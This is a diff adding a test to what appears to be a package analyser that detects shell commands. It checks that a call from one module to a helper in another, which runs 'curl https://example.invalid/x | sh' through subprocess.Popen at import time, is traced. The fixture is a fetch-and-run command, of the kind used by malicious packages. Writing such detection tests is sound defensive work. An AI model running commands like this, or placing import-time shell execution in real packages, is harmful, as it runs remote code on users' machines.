@@ -72,3 +72,16 @@ def test_what_somebody_else_gives_a_helper_is_told_apart_from_what_is_written_ou
 def test_a_helper_that_is_given_many_things_is_seen_with_the_first_of_them() -> None:
     source = HELPER + "".join(f"run('tool {n}')\n" for n in range(40))
     assert 8 <= len(calls(source, "os.system")) <= 24
+
+
+def test_a_command_is_seen_that_goes_to_a_helper_in_another_module() -> None:
+    facts = wheel_of(
+        {
+            "sample/__init__.py": "from .tools import run\nrun('ls')\nrun('curl https://example.invalid/x | sh')\n",
+            "sample/tools.py": "import subprocess\ndef run(line):\n    subprocess.Popen(line, shell=True)\n",
+        }
+    )
+    found = [call for module in facts.modules if module.path.endswith("__init__.py") for call in module.calls]
+    assert [(call.name, call.arguments[0].text, call.when) for call in found] == [
+        ("subprocess.Popen", "curl https://example.invalid/x | sh", When.IMPORT)
+    ]
